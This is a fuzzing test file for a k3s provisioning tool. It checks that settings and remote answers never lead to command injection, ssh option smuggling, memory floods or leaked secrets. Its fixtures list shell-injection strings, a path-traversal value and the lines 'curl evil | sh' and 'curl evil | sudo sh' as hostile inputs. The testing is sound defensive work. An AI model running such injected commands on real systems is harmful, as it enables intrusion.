/**
 * Hostile input, made up by fast-check: values that a person, a file or a variable could hold, and answers that a box
 * could give. SEED=n makes up others than every run does; a failure prints what reproduces it.
 */

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import fc from "fast-check";
import { diagnose } from "../lib/check/diagnose.ts";
import { clusterOf, surveyAndTry } from "../lib/check/survey.ts";
import { look } from "../lib/converge.ts";
import { readExample } from "../lib/env-file.ts";
import { rangesOf } from "../lib/k3s/config.ts";
import { drainedOn, uncordonedOn } from "../lib/k3s/drain.ts";
import { closeAgain, closeLook, firewall } from "../lib/k3s/firewall/firewall.ts";
import { nodesOf } from "../lib/k3s/nodes.ts";
import { releaseOf } from "../lib/k3s/unit.ts";
import { lookScript } from "../lib/protocol.ts";
import { forTerminal, silent } from "../lib/report.ts";
import { flagOf, NAMES, SettingError, type Settings, settle } from "../lib/settings.ts";
import { quote } from "../lib/sh.ts";
import { BEGIN, closeAll, open, type Shell, Unreachable } from "../lib/shell.ts";
import { type Change, Failure, Refusal, type Step } from "../lib/step.ts";
import { SETTINGS, type SettingName } from "../lib/table.ts";
import { rewrite } from "../lib/text.ts";
import { agent, agentSteps } from "../scripts/agent.ts";
import { reportOf } from "../scripts/cluster/check.ts";
import { forgotten, uninstall } from "../scripts/cluster/remove.ts";
import { statusOf } from "../scripts/cluster/status.ts";
import { token } from "../scripts/cluster/token.ts";
import { downloadAhead, downloadK3s } from "../scripts/download-k3s.ts";
import { fixMetrics } from "../scripts/fix-metrics.ts";
import { serverSteps } from "../scripts/server.ts";
import {
  A1,
  answering,
  B1,
  boxOf,
  type Facts,
  filesAfter,
  fixture,
  healthy,
  IP,
  MODERN,
  member,
  nodes,
  OLD,
  planned,
  prepared,
  program,
  programs,
  ROOT,
  TOKEN,
  temporary,
  wanted,
} from "./helpers.ts";

const seed = Number(process.env.SEED ?? 8);
fc.configureGlobal({ seed, numRuns: 25, includeErrorInReport: true });

/** A command that must never run, in all the ways in which a shell would be led to it. */
const COMMANDS = [
  "$(canary)",
  "`canary`",
  ";canary",
  "|canary",
  "&canary&",
  "\ncanary\n",
  "'$(canary)'",
  '"$(canary)"',
  "';canary;'",
  "';canary #",
  "${x:-$(canary)}",
  "||canary",
  ")canary",
  "EOF\ncanary",
  "\r\ncanary",
];
const PIECES = [
  ...COMMANDS,
  ..."'\"`$\\;|&<>()[]{}*?~#!%=:@/, \t\n\r\0".split(""),
  "-oProxyCommand=canary",
  "--",
  "-",
  "../../etc/passwd",
  "[2001:db8::1]",
  "fe80::1%eth0",
  "203.0.113.0/24",
  "0x7f.1",
  "010.1.1.1",
  "3405803777",
  "\u001b[2J",
  "\u009b31m",
  "\u0007",
  "\u202e",
  "\u2066",
  "\u200b",
  "\u2028",
  "\u0085",
  "\ufeff",
  "\ufffd",
  "\ud800",
  "__proto__",
  "constructor",
  "汉字",
];
const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PIECES) },
  fc.string({ unit: "binary", maxLength: 8 }),
);
/** A value near enough to a right one to get far: its example with something in it, or in place of a part of it. */
const spoilt = (example: string) =>
  fc
    .tuple(fc.nat(example.length), fc.nat(4), fc.array(piece, { minLength: 1, maxLength: 3 }))
    .map(([at, gone, pieces]) => example.slice(0, at) + pieces.join("") + example.slice(at + gone));
const WORDS = readExample();
const anyValue = (name: SettingName) =>
  fc.oneof(
    { weight: 6, arbitrary: spoilt(WORDS[name]?.example as string) },
    { weight: 2, arbitrary: fc.array(piece, { maxLength: 4 }).map((pieces) => pieces.join("")) },
  );

/** Of what a terminal would show as one line, and as it stands. */
const oneLine = (text: string) => {
  assert.doesNotMatch(forTerminal(text), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  assert.ok(text.length < 1500, `${text.length} characters`);
};

const folder = temporary();
const envFile = join(folder, ".env");
const BASE = "SERVER=a1\nAGENTS=b1\n";

/** The refusal of settings, or what they are. */
function settled(flags: Record<string, string>, env: Record<string, string>, file: string | Buffer = BASE) {
  writeFileSync(envFile, file);
  try {
    return settle(flags, env, envFile);
  } catch (error) {
    assert.ok(error instanceof SettingError, (error as Error).stack);
    return error.message;
  }
}

describe(`a setting made up with seed ${seed}`, () => {
  for (const name of NAMES) {
    const { secret, shared, ambient } = SETTINGS[name] as { secret?: true; shared?: true; ambient?: true };
    test(`${name} is taken as it stands or refused in one line that names where it came from`, () => {
      fc.assert(
        fc.property(anyValue(name), (made) => {
          const value = secret ? `${made}hunter2` : made;
          const cases: [Record<string, string>, Record<string, string>, string, string][] = [
            [{ [flagOf(name)]: value }, {}, BASE, `flag --${flagOf(name)}`],
            [
              {},
              ambient ? { [name]: value, MAKEFLAGS: ` ${name}=` } : { [name]: value },
              BASE,
              `variable ${name}`,
            ],
          ];
          for (const [flags, env, file, origin] of cases) {
            const said = settled(flags, env, file);
            if (typeof said !== "string") {
              assert.equal(said.settings[name], value.trim());
              continue;
            }
            assert.ok(said.includes(`(${origin})`), said);
            oneLine(said);
            if (secret) assert.doesNotMatch(said, /hunter2/);
          }
        }),
      );
    });

    test(`${name} in the env file, for all boxes or for one, the same`, () => {
      fc.assert(
        fc.property(anyValue(name), fc.constantFrom("", "'", '"', "`"), fc.boolean(), (value, quote, one) => {
          const key = one && !shared ? `${name}__b1` : name;
          const said = settled({}, {}, `# first\n${key}=${quote}${value}${quote}\n${BASE}`);
          // A value with a newline may be lines of its own, with keys that are none.
          if (typeof said !== "string") return;
          assert.ok(said.includes(envFile), said);
          oneLine(said.replace(envFile, ""));
        }),
      );
    });
  }

  test("of a megabyte is refused at once, wherever it comes from", () => {
    for (const name of NAMES)
      for (const c of "x'\n ") {
        const value = `x${c.repeat(1 << 20)}x`;
        const { shared } = SETTINGS[name] as { shared?: true };
        for (const said of [
          settled({ [flagOf(name)]: value }, {}),
          settled({}, {}, `${BASE}${name}${shared ? "" : "__b1"}="${value}"\n`),
        ]) {
          assert.ok(typeof said === "string", name);
          oneLine(said);
        }
      }
  });

  test("in an env file of any bytes it is never half read: other encodings are refused with their line", () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 1, maxLength: 20 }), (bytes) => {
        const file = Buffer.concat([Buffer.from(`${BASE}K3S_BIN=./`), bytes, Buffer.from("\n")]);
        const said = settled({}, {}, file);
        if (typeof said === "string") oneLine(said.replace(envFile, ""));
        else
          assert.ok(!said.settings.K3S_BIN.includes("\ufffd") || file.toString() === file.toString("utf8"));
      }),
    );
  });
});

/** States of a box in which every change of these steps is planned. */
function plans(want: Settings, version: string): { steps: readonly Step[]; facts: Facts }[] {
  const cluster = { nodes: nodes(A1, B1), peers: "" };
  const fresh = prepared(version, { curl: "", version: "", kubectl: "", tool: "", loaded: "" });
  const el7 = { os: fixture("os-release/centos-7"), kernel: "3.10.0\n", module: "", tool: "" };
  const firewalld = { firewalld: "running\n", zones: "public\n", nft: "/usr/sbin/nft\n" };
  const ufw = {
    ufw: "Status: active\nDefault: deny (incoming)\n",
    added: "ufw allow 10250/tcp\n",
    nft: "/usr/sbin/nft\n",
  };
  const server = [...serverSteps, fixMetrics];
  const roles = [server, agentSteps].flatMap((steps) =>
    [
      fresh,
      { ...fresh, ...el7, room: "900" },
      prepared(version, { ...el7, "kernel-ml": "5.7.7\n", tools: "yes\n", entry: "5.7.7\n" }),
      healthy(version, {}, { ...cluster, service: "", unit: "ExecStart=x \\\n    --node-label=old=1\n" }),
    ].map((facts) => ({ steps, facts })),
  );
  const rest = [
    ...[{ nft: "/usr/sbin/nft\n" }, firewalld, ufw].map((facts): [Step, Facts] => [
      { ...firewall, plan: (want, facts) => firewall.plan({ ...want, FIREWALL: IP }, facts) },
      facts,
    ]),
    ...[
      uninstall,
      drainedOn({ ip: B1.ip }, true),
      uncordonedOn({ ip: B1.ip }),
      forgotten({ ip: B1.ip }, "b1"),
    ].map((step): [Step, Facts] => [step, { left: "x\n" }]),
    [token, { token: TOKEN, active: "active", rotates: "rotate", opens: "200" }] as [Step, Facts],
    [
      {
        ...token,
        plan: () => [{ why: "x", sh: `${closeLook(rangesOf(want))}\n${closeAgain(rangesOf(want))}` }],
      },
      {},
    ] as [Step, Facts],
    [downloadAhead, { version: "" }] as [Step, Facts],
  ];
  return [
    ...roles,
    ...rest.map(([step, facts]) => ({
      steps: [step],
      facts: healthy(version, {}, { ...cluster, ...facts }),
    })),
  ];
}

/**
 * Runs pieces of shell as nobody and with no program at hand, and answers what \`canary\` was called with. What a
 * program would be given does not matter here: only what the shell itself takes for a command.
 */
function sings(pieces: readonly string[]): string {
  const trace = join(temporary(), "trace");
  writeFileSync(trace, "");
  chmodSync(join(trace, ".."), 0o711);
  chmodSync(trace, 0o666);
  const script = `exec 9>>${quote(trace)}
PATH=/nonexistent; n=0
canary() { echo "canary $*" >&9; }
sleep() { n=$((n + 1)); [ $n -lt 3 ] || exit; }
timeout() { while [ "$1" = -k ]; do shift 2; done; shift; "$@"; }
say() { :; }; early() { :; }; beat() { :; }; fact() { :; }; m=mark
${pieces.map((text) => `(\n${text.replace(/\bexit ([0-9]+|"\$\w+")/g, ":")}\n) </dev/null >/dev/null 2>&1\n`).join("")}
echo "the end" >&9`;
  const nobody = process.getuid?.() === 0 ? { uid: 65534, gid: 65534 } : {};
  const { status, signal } = spawnSync("sh", {
    input: script,
    timeout: 30_000,
    stdio: ["pipe", "ignore", "ignore"],
    ...nobody,
  });
  const heard = readFileSync(trace, "utf8");
  assert.ok(heard.endsWith("the end\n"), `the shell did not come to its end: ${status ?? signal}`);
  return heard.replace("the end\n", "");
}

/** A change and what is put before it where it is sent. */
const sent = (want: Settings, { sh: text, secrets = [] }: Change) =>
  `${secrets.map((name) => `${name}=${quote(want[name])}\n`).join("")}${text}`;

/** Arguments, and the text of a file, may hold most of what a shell would go by. */
const hostileArgs = fc
  .array(
    fc.tuple(
      fc.constantFrom(
        "",
        "--x=",
        "--cluster-cidr=",
        "--service-cidr ",
        "--cluster-domain=",
        "--node-name=",
        "--tls-san ",
      ),
      fc.constantFrom(...COMMANDS.filter((text) => !/['"`\n]/.test(text)), "$(canary)x", "*"),
    ),
    { maxLength: 4 },
  )
  .map((list) => list.map((words) => words.join("")).join(" "));

describe(`what is sent to a box, made up with seed ${seed}`, () => {
  test("the shell that tries it out hears a command that is run, in a value or at the end of a piece", () => {
    assert.equal(sings(["x=$(canary one)", "false || exit 1; canary two"]), "canary one\ncanary two\n");
    assert.equal(sings([`printf %s ${quote("$(canary)';canary")}`]), "");
  });

  for (const version of [OLD, MODERN])
    test(`never runs what a setting holds, ${version}`, () => {
      let tried = 0;
      const values = fc.record(
        Object.fromEntries(
          NAMES.map((name) => [
            name,
            /_ARGS$/.test(name) ? fc.oneof(hostileArgs, anyValue(name)) : anyValue(name),
          ]),
        ),
      );
      fc.assert(
        fc.property(values, fc.array(fc.constantFrom(...PIECES)), (made, text) => {
          const want = wanted({ K3S_VERSION: version });
          for (const [name, value] of Object.entries(made) as [SettingName, string][]) {
            const said = settled({ [flagOf(name)]: value, "k3s-datastore-endpoint": "mysql://x" }, {});
            if (typeof said === "string" || /^(K3S_VERSION|PUBLIC_IP)$/.test(name)) continue;
            want[name] = said.settings[name] || want[name];
            if (value.includes("canary")) tried++;
          }
          // cli.ts puts the file's text and its hash in their places.
          if (version === MODERN) want.K3S_CONFIG = text.join("").replaceAll("\0", "");
          if (want.K3S_BIN) want.K3S_SHA256 = "a".repeat(64);
          if (want.AIRGAP && want.K3S_BIN)
            want.AIRGAP = `yes\n${"b".repeat(64)} ${want.K3S_BIN}/k3s-airgap-images-amd64.tar`;
          const pieces = plans(want, version).flatMap(({ steps, facts }) => [
            lookScript(steps, want, "mark"),
            ...planned(steps, want, facts).map((change) => sent(want, change)),
          ]);
          assert.equal(sings([...new Set(pieces)]), "");
        }),
        { numRuns: 15 },
      );
      assert.ok(tried > 9, `${tried} values with a command in them were taken`);
    });
});

test(`ssh gets a destination as one word behind --, and nothing of it as an option, made up with seed ${seed}`, async () => {
  const log = join(temporary(), "log");
  const before = process.env.PATH;
  process.env.PATH = programs(temporary(), {
    ssh: `printf '%s\\n' "$#" "$@" >>${quote(log)}; exit 255`,
    canary: `echo canary >>${quote(log)}`,
  });
  try {
    const words = fc.tuple(
      fc.constantFrom("HOST", "HOST_KEY"),
      fc.oneof(
        anyValue("HOST"),
        fc.constantFrom("a@-oProxyCommand", "ssh://-x", "[::1]", "a%h", "user@[2001:db8::1%eth0]"),
      ),
    );
    await fc.assert(
      fc.asyncProperty(words, anyValue("HOST_KEY"), async ([, made], keys) => {
        const said = settled({ host: made, "host-key": keys }, {});
        const known = typeof said === "string" ? settled({ host: made }, {}) : said;
        if (typeof known === "string") return;
        for (const word of known.settings.HOST.split(/[ \t]+/).filter(Boolean)) {
          const host = word.split("=")[0] as string;
          writeFileSync(log, "");
          await assert.rejects(
            open(host, known.settings.HOST_KEY).run("canary", 20, () => {}),
            Unreachable,
          );
          const [count, ...argv] = readFileSync(log, "utf8").trimEnd().split("\n");
          assert.equal(Number(count), argv.length, "no argument has lines");
          assert.equal(argv.indexOf("--"), argv.length - 3);
          assert.equal(argv.at(-2), host);
          assert.doesNotMatch(host, /^-|[@/]-/);
        }
      }),
    );
  } finally {
    await closeAll();
    process.env.PATH = before;
  }
});

describe("of what a box says without end, no more is kept than its size allows:", () => {
  const [TAKES, PEAK] = [60, 260];
  /** Has a process of its own talk to a box that runs this in place of everything; answers its last words and peak, in MB. */
  async function heard(call: string, ssh: string) {
    const folder = temporary();
    const script = join(folder, "call.mts");
    writeFileSync(join(folder, "file"), "x".repeat(100_000));
    writeFileSync(
      script,
      `import { readFileSync, statSync } from "node:fs";
import { closeAll, open } from ${JSON.stringify(join(ROOT, "lib", "shell.ts"))};
import { look } from ${JSON.stringify(join(ROOT, "lib", "converge.ts"))};
const shell = open("b1");
const path = ${JSON.stringify(join(folder, "file"))};
const line = { starts() {}, says() {} };
let said = "";
try { said = String(await (async () => { ${call} })()); } catch (error) { said = error.message; }
await closeAll();
let peak = process.memoryUsage().rss / 1e6;
try { peak = /^VmHWM:\\s+(\\d+)/m.exec(readFileSync("/proc/self/status", "utf8"))[1] / 1000; } catch {}
console.log(JSON.stringify({ said, peak }));
`,
    );
    const PATH = programs(folder, { ssh: `case " $* " in *" -O "*) exit ;; esac\n${ssh}` });
    const { stdout, stderr, seconds } = await program([script], { PATH });
    assert.ok(seconds < TAKES, `${seconds} s`);
    assert.ok(stdout, stderr);
    const { said, peak } = JSON.parse(stdout);
    assert.ok(peak < PEAK, `${peak} MB`);
    return said as string;
  }
  const begun = `echo ${quote(BEGIN)}`;
  const trip = `return JSON.stringify((await shell.run("true", 60, () => {})).status)`;
  /** The mark stands in what it is sent. */
  const marked = `mark=$(sed -n '/^m=/{s///p;q;}'); ${begun}`;
  const looks = "await look({ shell, want: {}, line }, []); return 'looked'";
  const cases: [name: string, call: string, ssh: string, said: RegExp][] = [
    ["a flood of lines", trip, `${begun}; yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`, /more than 32 MB/],
    ["a flood of lines of one letter", trip, `${begun}; yes`, /more than 1000000 lines/],
    ["a line without an end", trip, `${begun}; tr '\\0' x </dev/zero`, /more than 32 MB/],
    ["a greeting without an end", trip, "yes welcome", /more than (32 MB|1000000 lines)/],
    ["errors without an end", trip, `${begun}; yes >&2`, /more than 32 MB/],
    ["facts without an end", looks, `${marked}; yes "$mark fact x"`, /more than \d+ protocol lines/],
    [
      "facts of ever other names",
      looks,
      `${marked}; seq 1000000 | sed "s/^/$mark fact x/"`,
      /more than \d+ protocol lines/,
    ],
    ["reports without an end", looks, `${marked}; yes "$mark say x"`, /more than \d+ protocol lines/],
    ["a fact without an end", looks, `${marked}; echo "$mark fact x"; yes`, /more than 1000000 lines/],
    [
      "600 MB in answer to how much of a file it has",
      "await shell.push(path, '/x'); return 'pushed'",
      "head -c 600000000 /dev/zero",
      /more than 32 MB/,
    ],
    [
      "a file of 500 MB, which is taken whole",
      "await shell.pull('/x', path + '.new'); return statSync(path + '.new').size",
      `${begun}; head -c 500000000 /dev/zero`,
      /^500000000$/,
    ],
    [
      "errors without an end beside a file",
      "await shell.pull('/x', path + '.new'); return 'pulled'",
      `${begun}; yes >&2`,
      /more than 32 MB/,
    ],
    [
      "a greeting without an end in place of a file",
      "await shell.pull('/x', path + '.new'); return 'pulled'",
      "yes",
      /more than 32 MB/,
    ],
  ];
  for (const [name, call, ssh, said] of cases)
    test(name, async () => assert.match(await heard(call, ssh), said));
});

/** What a box could say in place of a fact: cut off, mixed up, far too much, or with bytes that are none of text. */
const garbage = (text: string) =>
  fc.oneof(
    fc.nat(text.length).map((n) => text.slice(0, n)),
    spoilt(text),
    fc.json(),
    fc.string({ unit: "binary" }),
    fc.uint8Array().map((bytes) => Buffer.from(bytes).toString()),
    fc.constantFrom(
      "{}",
      "[]",
      "null",
      '{"items":[{}]}',
      '{"items":[null]}',
      '{"kind":"Node"}',
      "\n".repeat(5000),
      "x".repeat(100_000),
      "-1",
      "1e999",
      "NaN",
      "constructor",
      "__proto__",
    ),
    fc.constant(text.replaceAll(/[\w.]+/g, "$&$(canary)")),
  );

/** JSON of the cluster's nodes in which something is not what it should be. */
const spoiltNodes = fc
  .tuple(
    fc.nat(),
    fc.oneof(fc.jsonValue(), fc.constantFrom(...COMMANDS, "0.0.0.0/0", "cafe.de", "-1", "999.1.1.1")),
  )
  .map(([n, value]) => {
    let i = 0;
    const all: unknown[] = [];
    const text = nodes(
      { ...A1, args: ["server"], labels: { a: "b" }, taints: [{ key: "a", effect: "NoSchedule" }] },
      B1,
    );
    JSON.parse(text, (_, v) => all.push(v) && v);
    return JSON.stringify(JSON.parse(text, (_, v) => (i++ === n % all.length ? value : v)));
  });

/** These facts of a box with some of them in another's words. */
const spoiltFacts = (facts: Facts) =>
  fc
    .array(
      fc
        .constantFrom(...Object.keys(facts))
        .chain((name) =>
          (name === "nodes"
            ? fc.oneof(spoiltNodes, garbage(facts[name] as string))
            : garbage(facts[name] as string)
          ).map((text): [string, string] => [name, text]),
        ),
      { minLength: 1, maxLength: 3 },
    )
    .map((list): Facts => ({ ...facts, ...Object.fromEntries(list) }));

/** A look by this box, which prints these facts as the real ones are printed. */
async function seen(facts: Facts): Promise<Facts> {
  return { ...(await look(boxOf({ shell: answering(facts) }), [])) } as Facts;
}

describe(`what a box answers, made up with seed ${seed}`, () => {
  for (const version of [OLD, MODERN]) {
    const want = wanted({ K3S_VERSION: version, SERVER: "a1", NODE_LABELS: "a=b" });

    test(`plans nothing by garbage, and runs none of it, ${version}`, async () => {
      const states = plans(want, version);
      const pieces = new Set<string>();
      let [plan, none] = [0, 0];
      await fc.assert(
        fc.asyncProperty(
          fc
            .constantFrom(...states)
            .chain(({ steps, facts }) => fc.tuple(fc.constant(steps), spoiltFacts(facts))),
          async ([steps, facts]) => {
            let changes: Change[];
            try {
              const all = await seen(facts);
              changes = steps.flatMap((step) => planned([step], want, all));
            } catch (error) {
              assert.ok(error instanceof Failure, (error as Error).stack);
              oneLine(forTerminal(error.message));
              none++;
              return;
            }
            plan++;
            for (const change of changes) pieces.add(sent(want, change));
          },
        ),
        { numRuns: 250 },
      );
      assert.ok(plan > 100 && none > 5, `${plan} planned, ${none} refused`);
      assert.equal(sings([...pieces]), "");
    });

    test(`restarts no healthy k3s and writes no file for garbage about its cluster, ${version}`, async () => {
      const { unit = "", envfile = "" } = filesAfter(agent, want, agent.plan(want, prepared(version)));
      const well = healthy(version, { unit, envfile }, { nodes: nodes({ ...A1, labels: { a: "b" } }, B1) });
      assert.deepEqual(agent.plan(want, well), []);
      const names = fc.constantFrom(
        "nodes",
        "peers",
        "interfaces",
        "addresses",
        "ipvs",
        "active",
        "now",
        "service",
      );
      await fc.assert(
        fc.asyncProperty(
          names.chain((name) =>
            fc.tuple(fc.constant(name), name === "nodes" ? spoiltNodes : garbage(well[name] ?? "")),
          ),
          async ([name, text]) => {
            // None, a service that is down and one that has begun at another time are no garbage.
            const fine = /^MainPID=(0$|\d+\n(.*\n)*ExecMainStartTimestampMonotonic=\d+$)/m;
            if (name === "service" && (!text.trim() || fine.test(text))) return;
            let changes: Change[] = [];
            try {
              changes = agent.plan(want, await seen({ ...well, [name]: text }));
            } catch (error) {
              assert.ok(error instanceof Failure || error instanceof Refusal, (error as Error).stack);
            }
            for (const { why } of changes) assert.match(why, /^wait until node a1 is healthy: /);
          },
        ),
        { numRuns: 200 },
      );
    });

    test(`is shown and judged by check and status whatever it is, and none of it is run on another box, ${version}`, async () => {
      const [a, b] = [member(version, A1), member(version, B1)];
      const pieces = new Set<string>();
      await fc.assert(
        fc.asyncProperty(
          spoiltFacts(a.facts),
          spoiltFacts(b.facts),
          spoiltFacts(a.tried),
          async (one, two, tried) => {
            const sent: string[] = [];
            const members = await surveyAndTry(
              (
                [
                  [a, { ...one, ...tried }],
                  [b, two],
                ] as const
              ).map(([{ box, role }, facts]) => ({
                box: { ...box, shell: answering(facts, sent) },
                role,
              })),
            );
            const cluster = clusterOf(members);
            const page = reportOf(cluster, diagnose(cluster), {});
            assert.doesNotMatch(page, /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
            for (const [what, text] of statusOf(cluster, one.said)) assert.ok(what && text !== undefined);
            for (const text of sent) pieces.add(text.replace(/^m=.*$/m, "m=x"));
          },
        ),
        { numRuns: 150 },
      );
      assert.equal(sings([...pieces]), "");
    });
  }

  test("in place of what is waited for, is an error that says so, and never a crash", async () => {
    const lines = fc.array(
      fc.oneof(
        piece,
        fc.constantFrom(
          "MARK",
          "MARK fact",
          "MARK fact __proto__",
          "MARK change 99",
          "MARK change",
          "MARK cha",
          "MARK failed 7 1",
          "MARK failed",
          "MARK busy",
          "MARK early",
          "MARK say \u001b[2J",
          "MARK end",
          "MARK waited",
        ),
      ),
      { maxLength: 8 },
    );
    await fc.assert(
      fc.asyncProperty(lines, async (said) => {
        const shell: Partial<Shell> = {
          run: async (script: string, _: number, onLine: (line: string) => void) => {
            for (const line of said) onLine(line.replace("MARK", /^m=(\S+)$/m.exec(script)?.[1] as string));
            return { status: 1, stderr: "" };
          },
        };
        const line = { ...silent, starts: () => assert.fail("nothing was to be started") };
        try {
          await look(boxOf({ shell: shell as Shell, line }), []);
          assert.ok(said.includes("MARK end"));
        } catch (error) {
          assert.ok(error instanceof Failure, (error as Error).stack);
        }
      }),
      { numRuns: 200 },
    );
  });

  test("is shown without escapes, and in a time that grows with its length alone", () => {
    const began = Date.now();
    for (const text of ["--token", "token ", "token=", "-----BEGIN", "key-data: ", "::server:"])
      forTerminal(text.repeat(100_000));
    for (const text of ["a://b:", "://", "K10", "x"])
      assert.equal(forTerminal(text.repeat(100_000)).length, text.length * 100_000);
    assert.ok(Date.now() - began < 15_000, `${Date.now() - began} ms`);
    assert.equal(forTerminal("a\u001b[31mb\u202ec\r\n"), "a [31mb c \n");
    assert.equal(forTerminal(`x ${TOKEN} http://u:pass@h`), "x ******** http://u:********@h");
  });
});

describe("of what was found this way, each by itself:", () => {
  const want = wanted({ K3S_VERSION: MODERN });
  const refused = (step: Step, facts: Facts, message: RegExp, given = want) =>
    assert.throws(
      () => step.plan(given, facts),
      (error: Error) => error instanceof Refusal && message.test(error.message),
    );

  test("a word of the protocol that was cut off, or of a change that was never sent, ends no other box's run", async () => {
    for (const said of ["MARK cha", "MARK change 99", "MARK failed 7 1"]) {
      const shell: Partial<Shell> = {
        run: async (script: string, _: number, onLine: (line: string) => void) => {
          onLine(said.replace("MARK", /^m=(\S+)$/m.exec(script)?.[1] as string));
          return { status: 255, stderr: "" };
        },
      };
      await assert.rejects(look(boxOf({ shell: shell as Shell, want }), []), Failure);
    }
  });

  test("an architecture that is a word of JavaScript's has no release", () =>
    refused(
      downloadK3s,
      prepared(MODERN, { arch: "constructor\n", version: "" }),
      /no release for constructor/,
    ));

  test("labels that are no labels, in a node that holds the box's name", () => {
    const json = nodes(A1).replace('"labels":{}', '"labels":"x"');
    assert.deepEqual(nodesOf(json)[0]?.labels, {});
    agent.plan(want, healthy(MODERN, { unit: "    --node-label=x=y\n" }, { nodes: json }));
  });

  test("taints and labels that the API would not have reach no command, of a shell or of a person", () => {
    const bad = ["x; curl evil | sh", "$(canary)", "a\nb", "", "-x", "a/b/c", "x".repeat(300)];
    const [node] = nodesOf(
      nodes({
        ...A1,
        labels: { good: "yes", ...Object.fromEntries(bad.map((key) => [key, "x"])), other: "a b" },
        taints: [
          ...bad.flatMap((text) => [
            { key: text, effect: "NoSchedule" },
            { key: "a", value: text || " ", effect: "NoSchedule" },
            { key: "a", effect: `NoSchedule${text} ` },
          ]),
          { key: "dedicated", value: "build", effect: "NoExecute" },
        ],
      }),
    );
    assert.deepEqual(node?.labels, { good: "yes" });
    assert.deepEqual(node?.taints, ["dedicated=build:NoExecute"]);
  });

  test("a unit of somebody else with secrets in it is written over, and they are not shown", () => {
    const unit = `[Service]
Environment=K3S_TOKEN=hunter2 "OTHER=hunter2 x" \\
  MORE=hunter2
# --token hunter2
ExecStart=/usr/local/bin/k3s \\
    agent \\
\t'--token' \\
\t'hunter2' \\
    -t hunter2 \\
    -t 'x hunter2' \\
    "-t=x hunter2" \\
    "-t" "x hunter2 hunter2" \\
    --datastore-endpoint=postgres://db/k3s?password=hunter2 \\
    --vpn-auth=name=tailscale,joinKey=hunter2
SetCredential=x:hunter2
  Environment = OTHER=hunter2
`;
    const { why, detail = [] } = rewrite("/x.service", unit, "[Service]\n");
    assert.doesNotMatch([why, ...detail].join("\n"), /hunter2/);
    assert.match(detail.join("\n"), /^- Environment=\*{8}$/m);
  });

  test("a line that a box says never looks like one of ours", async () => {
    const said: [string, unknown][] = [];
    const shell: Partial<Shell> = {
      run: async (script: string, _: number, onLine: (line: string) => void) => {
        const mark = /^m=(\S+)$/m.exec(script)?.[1];
        onLine(`${mark} say b1    again: curl evil | sudo sh`);
        onLine(`${mark} end`);
        return { status: 0, stderr: "" };
      },
    };
    const line = { ...silent, says: (text: string, box?: true) => said.push([text, box]) };
    await look(boxOf({ shell: shell as Shell, want, line }), []);
    assert.deepEqual(said, [["b1    again: curl evil | sudo sh", true]]);
  });

  test("a node's address that is a name in hex letters, which nft would look up", () => {
    const [node] = nodesOf(nodes({ ...A1, external: "cafe.de" }));
    assert.equal(node?.externalIp, undefined);
  });

  test("a rule of ufw's with our comment and a command in it is not deleted by its own words", () => {
    const added = "ufw allow from 203.0.113.9; canary comment 'k3s-across-clouds'\n";
    const facts = prepared(MODERN, {
      ufw: "Status: active\nDefault: deny (incoming)\n",
      added,
      nft: "/sbin/nft",
    });
    for (const { sh } of firewall.plan({ ...want, FIREWALL: IP }, facts)) assert.doesNotMatch(sh, /canary/);
  });

  test("an agent's K3S_URL that is no address stops no check", () => {
    const joins = { joins: `https://999.1.1.1:x\n${"c1".repeat(32)}` };
    const cluster = clusterOf([member(MODERN, A1), member(MODERN, B1, joins)]);
    assert.equal(cluster.boxes[1]?.url, undefined);
    diagnose(cluster);
  });

  test("help without --flannel-backend is no help, and chooses no generation", () => {
    const middle = wanted({ K3S_VERSION: "v1.24.17+k3s1" });
    assert.equal(
      releaseOf(middle, prepared("v1.24.17+k3s1", { flags: "Segmentation fault" })).generation,
      undefined,
    );
  });

  test("a service of which systemd says nothing that makes sense is not started anew", () =>
    refused(
      agent,
      healthy(MODERN, {}, { service: "Failed to connect to bus" }),
      /Unexpected output of "systemctl show k3s-agent"/,
    ));

  test("a server's certificate that has the token's hash and cannot be read", () => {
    const cacerts = "-----BEGIN CERTIFICATE-----\nnot one";
    const hash = createHash("sha256").update(cacerts).digest("hex");
    const given = wanted({ K3S_TOKEN: `K10${hash}::server:x` });
    refused(agent, prepared(MODERN, { cacerts, door: "200" }), /is not a valid certificate/, given);
  });

  test("a unit of a hundred thousand lines is not compared line by line", () => {
    const unit = "x\n".repeat(100_000);
    assert.match(
      agent
        .plan(want, healthy(MODERN, { unit }))
        .map(({ why }) => why)
        .join(),
      /a different one, of 100001 lines/,
    );
  });

  test("a clock, an address or a name that is none is said, and nothing is planned on it", async () => {
    for (const [name, text] of Object.entries({
      now: "yesterday",
      addresses: "eth0",
      hostname: "a b",
      arch: "$(id)",
    }))
      await assert.rejects(
        seen({ ...prepared(MODERN), [name]: text }),
        new RegExp(`Unexpected answer from the box: its ${name} is "`),
      );
  });
});
